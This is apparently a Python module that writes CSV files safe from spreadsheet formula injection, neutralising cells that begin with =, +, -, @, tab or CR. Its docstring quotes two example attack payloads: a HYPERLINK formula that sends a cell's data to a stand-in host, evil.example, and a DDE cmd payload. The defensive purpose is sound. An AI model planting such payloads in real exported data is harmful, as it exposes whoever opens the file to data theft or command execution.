"""The one CSV writer: every CSV the workbench writes (downloads on the pages, ``--out`` of
the commands) goes through :func:`csv_text` (rows as mappings) or :func:`frame_csv` (a pandas
DataFrame, written by pandas after its text cells pass the same check), so every file is safe
to open in a spreadsheet.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?d="&B2)``,
``-2+3+cmd|' /C calc'!A0``): such a cell gets a leading apostrophe, as OWASP's CSV injection
advice says. Notes, case ids, rule text, reasons and names all come from users or models,
so every text cell is treated so. Numbers stay numbers (``-0.5`` is written as it is: a
spreadsheet reads it as a number, not a formula). Missing values (None, NaN, NaT) are empty
cells, as pandas writes them.

Pure: imports neither pandas nor anything of the workbench.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Lines end in CRLF (RFC 4180, what spreadsheets write): then a cell holding a bare CR is
# quoted too. With "\n" alone, Python's csv module and pandas leave "a\r=1" unquoted, and a
# spreadsheet starts a new row at the CR, whose first cell is the formula "=1".
LINE_END = "\r\n"


def neutral_cell(value: Any) -> Any:
    """``value`` as a CSV cell that a spreadsheet will not run: text starting with a formula
    character gets a leading ``'``; None and NaN become ""; anything else is kept."""
    if value is None:
        return ""
    if isinstance(value, float) and value != value:
        return ""
    if isinstance(value, bytes):
        value = value.decode("utf-8", "replace")
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    if isinstance(value, bool | int | float):
        return value
    if type(value).__name__ in ("NAType", "NaTType"):  # pandas' missing values
        return ""
    if type(value).__module__.startswith("numpy") and hasattr(value, "item"):
        return neutral_cell(value.item())  # a numpy scalar: its Python number
    return neutral_cell(str(value))  # dates, enums, lists: as their text, checked too


def formula_cells(text: str) -> list[str]:
    """The cells of CSV ``text`` a spreadsheet would run (empty when none): text starting
    with a formula character that is not a plain number. The check of what
    :func:`neutral_cell` guards, for tests and benches."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


def csv_text(rows: Iterable[Mapping[str, Any]], columns: Sequence[str] | None = None) -> str:
    """CSV text (header first, CRLF line ends) of ``rows``; ``columns`` default to the
    first row's keys. Every cell through :func:`neutral_cell`, the header too."""
    rows = list(rows)
    columns = list(columns if columns is not None else (rows[0].keys() if rows else ()))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=LINE_END)
    writer.writerow([neutral_cell(str(c)) for c in columns])
    for row in rows:
        writer.writerow([neutral_cell(row.get(c)) for c in columns])
    return out.getvalue()


def frame_csv(frame: Any, *, index: bool = False) -> str:
    """CSV text of a pandas DataFrame as ``DataFrame.to_csv`` writes it (numbers and dates
    formatted as pandas does), every text cell and column name through :func:`neutral_cell`.
    ``index``: write the index as the first column."""
    if index:
        frame = frame.reset_index()
    out = frame.copy()
    for position, dtype in enumerate(frame.dtypes):
        if getattr(dtype, "kind", "O") not in "biufcmM":  # text, mixed, categories
            out.isetitem(position, frame.iloc[:, position].map(neutral_cell))
    out.columns = [neutral_cell(str(c)) for c in frame.columns]
    return out.to_csv(index=False, lineterminator=LINE_END)
